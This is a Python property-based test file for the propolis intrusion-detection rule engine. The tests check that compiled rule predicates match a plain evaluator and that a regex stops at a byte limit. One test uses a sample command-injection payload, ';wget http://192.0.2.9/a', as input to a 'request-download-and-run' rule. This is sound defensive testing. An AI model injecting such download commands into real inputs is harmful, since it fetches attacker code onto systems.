from hypothesis import given, settings

from batches import built_in
from propolis.detection.fields import Fields
from propolis.detection.rules import Every, Node, Not, Some, Test, Threshold, holds
from propolis.detection.rules.predicate import predicate
from propolis.detection.rules.rule import REGEX_BYTES
from rule_nodes import nodes, texts


@given(nodes, texts)
@settings(max_examples=200, deadline=None)
def test_a_predicate_says_what_the_plain_evaluator_says(node: Node, text: bytes) -> None:
    fields = Fields("PayloadReceived", (text,))
    assert predicate(node)(fields) is holds(node, fields)


@given(texts)
@settings(max_examples=60, deadline=None)
def test_the_built_in_rules_too(text: bytes) -> None:
    fields = Fields("PayloadReceived", (text,))
    for rule in built_in().rules:
        if "PayloadReceived" in rule.kinds and not isinstance(rule.logic, Threshold):
            assert predicate(rule.logic)(fields) is holds(rule.logic, fields)


def test_a_regular_expression_sees_no_further_than_its_bound() -> None:
    node = next(rule.logic for rule in built_in().rules if rule.id == "request-download-and-run")
    attack = b";wget http://192.0.2.9/a"
    for padding, found in ((REGEX_BYTES - len(attack), True), (REGEX_BYTES, False)):
        fields = Fields("PayloadReceived", (b"a" * padding + attack,))
        assert predicate(node)(fields) is holds(node, fields) is found


def test_nodes_of_none_hold_as_the_empty_all_and_any_do() -> None:
    fields = Fields("PayloadReceived", (b"",))
    for node in (
        Every(()),
        Some(()),
        Not(Some(())),
        Test("raw", "contains", ()),
        Test("raw", "contains", (), every=True),
    ):
        assert predicate(node)(fields) is holds(node, fields)
